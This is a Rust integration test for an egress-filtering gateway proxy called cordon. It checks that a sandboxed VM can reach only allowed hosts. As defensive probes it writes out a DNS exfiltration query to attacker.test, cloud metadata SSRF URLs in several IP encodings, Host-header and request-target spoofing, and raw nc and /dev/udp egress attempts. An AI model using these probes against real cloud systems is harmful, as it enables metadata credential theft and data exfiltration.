//! Transparent mode as a VM gateway (docs/src/deploying/gateway.md), in network namespaces: cordon runs in a "gateway"
//! namespace with deploy/gateway/cordon-gateway.nft loaded for the link to a "sandbox" namespace standing
//! in for a VM; the upstreams live in an "internet" namespace and 169.254.169.254 in a "metadata" one.
//! The gateway forwards packets (as a real one does), so only cordon and the rules stand in the way.

use std::time::Duration;

use crate::rigs::gateway::{World, load_rules, start_cordon};
use crate::rigs::netns::{available, resolv_conf};
use crate::rigs::wait::Within;

fn dig(w: &World, name: &str, qtype: &str) -> String {
    let server = format!("@{}", w.net.gw_ip());
    let out = w
        .net
        .exec(&w.net.sbx, &["dig", "+tries=1", "+time=2", &server, name, qtype]);
    String::from_utf8_lossy(&out.stdout).into_owned()
}

#[tokio::test(flavor = "multi_thread")]
async fn a_vm_behind_the_gateway_reaches_only_what_its_policy_allows() {
    if !available("a_vm_behind_the_gateway_reaches_only_what_its_policy_allows") {
        return;
    }
    let w = World::new().await;
    let net = &w.net;
    let (inet, gw) = (net.inet_ip(), net.gw_ip());
    // Before any rule, the gateway routes the sandbox straight to the upstream: the topology is real.
    assert!(
        net.connectable(&net.sbx, &format!("{inet}:443")),
        "the topology does not route"
    );
    load_rules(net);
    let listen = format!("listen: {{ proxy: \"{gw}:3128\", transparent: \"{gw}:15001\", dns: \"{gw}:15053\" }}");
    let config = w.config("vm1", &listen, Some(&format!("{}/32", net.sbx_ip())));
    let ca = w.sandbox_ca(&config, "vm1");
    let ca = ca.to_str().unwrap();
    let _cordon = start_cordon(&w, &config, &format!("{gw}:3128")).await;
    resolv_conf(&net.sbx, &gw);

    // DNS: the allowed name is answered with cordon's resolution; others are refused, metadata too.
    assert!(dig(&w, "api.test", "A").contains(&inet), "{}", dig(&w, "api.test", "A"));
    assert!(dig(&w, "denied.test", "A").contains("REFUSED"));
    assert!(dig(&w, "metadata.google.internal", "A").contains("REFUSED"));
    assert!(dig(&w, "exfil-c2VjcmV0.attacker.test", "TXT").contains("REFUSED"));
    // Any DNS server the VM names is answered by cordon (port 53 is redirected to the responder).
    let elsewhere = w.net.exec(
        &net.sbx,
        &["dig", "+tries=1", "+time=2", "@198.51.100.53", "denied.test"],
    );
    assert!(String::from_utf8_lossy(&elsewhere.stdout).contains("REFUSED"));

    // An address on the VM's link that no sandbox claims gets nothing: no DNS, no connection.
    let stranger = net.stranger_ip();
    net.exec_ok(
        &net.sbx,
        &[
            "ip",
            "addr",
            "add",
            &format!("{stranger}/29"),
            "dev",
            &format!("{}b", &net.sbx_if()[..net.sbx_if().len() - 1]),
        ],
    );
    let out = net.exec(
        &net.sbx,
        &[
            "dig",
            "+tries=1",
            "+time=2",
            "-b",
            &stranger,
            &format!("@{gw}"),
            "api.test",
        ],
    );
    assert!(String::from_utf8_lossy(&out.stdout).contains("REFUSED"));
    let resolve = format!("api.test:443:{inet}");
    let (code, _) = w.curl(&[
        "--interface",
        &stranger,
        "--cacert",
        ca,
        "--resolve",
        &resolve,
        "https://api.test/hello",
    ]);
    assert_ne!(code, 0);

    // The allowed host over HTTPS, intercepted with the sandbox's CA, by name through cordon's DNS.
    let (code, body) = w.curl(&["--cacert", ca, "https://api.test/hello"]);
    assert_eq!((code, body.trim()), (0, "hello from upstream"));
    // And plain HTTP, by Host.
    let (code, body) = w.curl(&["http://api.test/plain"]);
    assert_eq!((code, body.trim()), (0, "hello from upstream"));
    assert!(w.plain.seen().iter().any(|s| s.uri == "/plain"));
    // Credentials a transparent client sends are not looked at (it is known by its address), nor passed on.
    let (code, body) = w.curl(&[
        "-H",
        "Proxy-Authorization: Basic b3RoZXI6dG9rZW4=",
        "http://api.test/creds",
    ]);
    assert_eq!((code, body.trim()), (0, "hello from upstream"));
    let seen = w.plain.seen();
    let creds = seen.iter().find(|s| s.uri == "/creds").unwrap();
    assert_eq!(creds.header("proxy-authorization"), None);
    // The port is the connection's: a Host naming another port is refused, not followed.
    let (_, text) = w.curl(&["-i", "-H", "Host: api.test:443", "http://api.test/other-port"]);
    assert!(
        text.starts_with("HTTP/1.1 400") && text.contains("host_port_mismatch"),
        "{text}"
    );
    assert!(!w.plain.seen().iter().any(|s| s.uri == "/other-port"));
    // An absolute-form target naming another host than Host is misdirected, not followed.
    let (_, text) = w.curl(&["-i", "--request-target", "http://denied.test/x", "http://api.test/"]);
    assert!(text.starts_with("HTTP/1.1 421"), "{text}");
    assert!(!w.plain.seen().iter().any(|s| s.uri.contains("/x")));

    // A denied host, even at the allowed host's address: closed, nothing reaches the upstream.
    let before = w.api.accepted();
    let resolve = format!("denied.test:443:{inet}");
    let (code, _) = w.curl(&["--cacert", ca, "--resolve", &resolve, "https://denied.test/"]);
    assert_ne!(code, 0);
    // Straight to the upstream's address: no SNI, no host to decide on, closed.
    let (code, _) = w.curl(&["-k", &format!("https://{inet}/hello")]);
    assert_ne!(code, 0);
    // A port the upstream has but no rule allows, with something that is not HTTP or TLS.
    let raw = net.exec(
        &net.sbx,
        &[
            "sh",
            "-c",
            &format!("printf 'SSH-2.0-x\\r\\n' | timeout 3 nc {inet} 443; echo rc=$?"),
        ],
    );
    assert!(!String::from_utf8_lossy(&raw.stdout).contains("hello"));
    assert_eq!(w.api.accepted(), before, "a refused connection reached the upstream");

    // Metadata: by IP, in other encodings, and with a Host header naming an allowed host.
    for url in [
        "http://169.254.169.254/latest/meta-data/",
        "http://2852039166/latest/meta-data/",
        "http://0xA9FEA9FE/latest/meta-data/",
        "http://0251.0376.0251.0376/latest/meta-data/",
    ] {
        let (_, text) = w.curl(&["-i", url]);
        assert!(!text.contains("hello from upstream"), "{url}: {text}");
    }
    // SECURITY: cordon dials its own resolution of the Host, never the address the sandbox chose.
    let (_, text) = w.curl(&["-H", "Host: api.test", "http://169.254.169.254/latest/meta-data/"]);
    assert_eq!(text.trim(), "hello from upstream");
    assert_eq!(w.metadata.accepted(), 0, "the metadata address was reached");

    // UDP (QUIC included) and ICMP to anywhere are dropped.
    let sink = net.udp(&net.inet, &format!("{inet}:9999"));
    sink.set_read_timeout(Some(Duration::from_millis(700))).unwrap();
    let quic = net.udp(&net.inet, &format!("{inet}:443"));
    quic.set_read_timeout(Some(Duration::from_millis(100))).unwrap();
    net.exec(
        &net.sbx,
        &[
            "sh",
            "-c",
            &format!("echo x > /dev/udp/{inet}/9999; echo q > /dev/udp/{inet}/443"),
        ],
    );
    let mut buf = [0u8; 16];
    assert!(sink.recv_from(&mut buf).is_err(), "UDP left the sandbox");
    assert!(quic.recv_from(&mut buf).is_err(), "UDP/443 (QUIC) left the sandbox");
    let ping = net.exec(&net.sbx, &["ping", "-c", "1", "-W", "1", &inet]);
    assert!(!ping.status.success(), "ICMP left the sandbox");
    // The gateway host's own services (an sshd, say) are out of reach: the connection lands on cordon.
    let sshd = net.listen(&net.gw, &format!("{gw}:2222"));
    let (code, _) = w.curl(&[&format!("http://{gw}:2222/")]);
    assert_eq!(code, 0, "cordon answers (with a refusal) instead of the host's service");
    assert!(
        tokio::time::timeout(Duration::from_millis(300), sshd.accept())
            .await
            .is_err(),
        "the host's service was reached"
    );

    // The audit says what happened, with the address the sandbox chose.
    let records = w
        .audit_until(&[
            &|r| r["kind"] == "transparent" && r["host"] == "api.test" && r["decision"] == "allow",
            &|r| r["kind"] == "transparent" && r["reason"] == "not_tls_or_http",
            &|r| r["kind"] == "transparent" && r["reason"] == "unknown_source",
            &|r| r["kind"] == "http" && r["original_dst"] == "169.254.169.254:80" && r["host"] == "api.test",
            &|r| r["kind"] == "http" && r["original_dst"] == format!("{gw}:2222"),
        ])
        .await;
    let transparent: Vec<_> = records.iter().filter(|r| r["kind"] == "transparent").collect();
    assert!(
        transparent
            .iter()
            .any(|r| r["host"] == "api.test" && r["decision"] == "allow" && r["original_dst"] == format!("{inet}:443")),
        "{transparent:#?}"
    );
    assert!(
        transparent
            .iter()
            .any(|r| r["host"] == "denied.test" && r["reason"] == "no_rule" && r["side"] == "downstream")
    );
    assert!(
        transparent
            .iter()
            .any(|r| r["reason"] == "no_sni" && r["side"] == "downstream")
    );
    assert!(transparent.iter().any(|r| r["reason"] == "not_tls_or_http"));
    // Every line (transparent, dns, http) is what docs/audit.schema.json says.
    crate::rigs::audit::assert_schema(&w.path("audit.log"));
    // Every refusal is a denial, whatever stage it came at.
    for reason in ["no_sni", "not_tls_or_http", "unknown_source", "no_rule"] {
        assert!(
            transparent
                .iter()
                .filter(|r| r["reason"] == reason)
                .all(|r| r["decision"] == "deny"),
            "{reason}: {transparent:#?}"
        );
    }
    assert!(
        transparent
            .iter()
            .any(|r| r["reason"] == "unknown_source" && r["client"].as_str().unwrap().starts_with(&stranger))
    );
    assert!(
        records
            .iter()
            .any(|r| r["kind"] == "dns" && r["reason"] == "unknown_source")
    );
    assert!(
        records
            .iter()
            .any(|r| r["kind"] == "dns" && r["host"] == "denied.test" && r["decision"] == "deny")
    );
    assert!(
        records
            .iter()
            .any(|r| r["kind"] == "dns" && r["host"] == "api.test" && r["decision"] == "allow")
    );
    assert!(
        records
            .iter()
            .any(|r| r["kind"] == "http" && r["host"] == "169.254.169.254" && r["decision"] == "deny")
    );
    assert!(
        records.iter().any(|r| r["kind"] == "http"
            && r["original_dst"] == "169.254.169.254:80"
            && r["host"] == "api.test"
            && r["original_dst_differs"] == true
            && r["dialled"] == format!("{inet}:80")),
        "{records:#?}"
    );
    // Nothing of the test is left once it is done.
    let names = [net.gw.clone(), net.sbx.clone(), net.inet.clone(), net.meta.clone()];
    drop(_cordon);
    drop(w);
    let list = String::from_utf8_lossy(
        &std::process::Command::new("ip")
            .args(["netns", "list"])
            .timed_output()
            .unwrap()
            .stdout,
    )
    .into_owned();
    for name in names {
        assert!(!list.split_whitespace().any(|n| n == name), "{name} is left: {list}");
    }
}
